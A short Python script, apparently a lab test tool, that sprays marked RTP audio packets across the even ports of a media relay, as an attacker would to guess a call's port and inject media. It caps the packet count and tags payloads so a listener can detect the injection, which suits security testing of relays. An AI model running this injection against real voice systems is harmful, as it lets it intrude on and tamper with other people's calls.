"""Spray RTP packets at a range of ports of a media relay, as an attacker guessing a call's port.

Usage: python3 rtp_spray.py TARGET_IP FIRST_PORT LAST_PORT ROUNDS MARKER_HEX [--source-port N]

Sends ROUNDS rounds of one PCMU RTP packet to every even port FIRST..LAST
(RTP ports are even), 100 ms apart, from one UDP socket; each payload
starts with MARKER so that a listener can tell injected media from a
call's own. Prints {"sent": N} as JSON. Runs on a lab peer with
``python3 -``; standard library only; bounded by ROUNDS x ports.
"""

import json
import socket
import struct
import sys
import time

MAX_PACKETS = 20000


def main() -> None:
    target, first, last, rounds, marker = (
        sys.argv[1],
        int(sys.argv[2]),
        int(sys.argv[3]),
        int(sys.argv[4]),
        sys.argv[5],
    )
    source_port = int(sys.argv[7]) if len(sys.argv) > 7 and sys.argv[6] == "--source-port" else 0
    payload = bytes.fromhex(marker).ljust(160, b"\xff")
    ports = range(first + first % 2, last + 1, 2)
    if len(ports) * rounds > MAX_PACKETS:
        raise SystemExit(f"refusing to send more than {MAX_PACKETS} packets")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", source_port))
    sent = 0
    for seq in range(rounds):
        for port in ports:
            header = struct.pack("!BBHII", 0x80, 0, seq, seq * 160, 0x5EC0FFEE)
            sock.sendto(header + payload, (target, port))
            sent += 1
        time.sleep(0.1)
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    main()
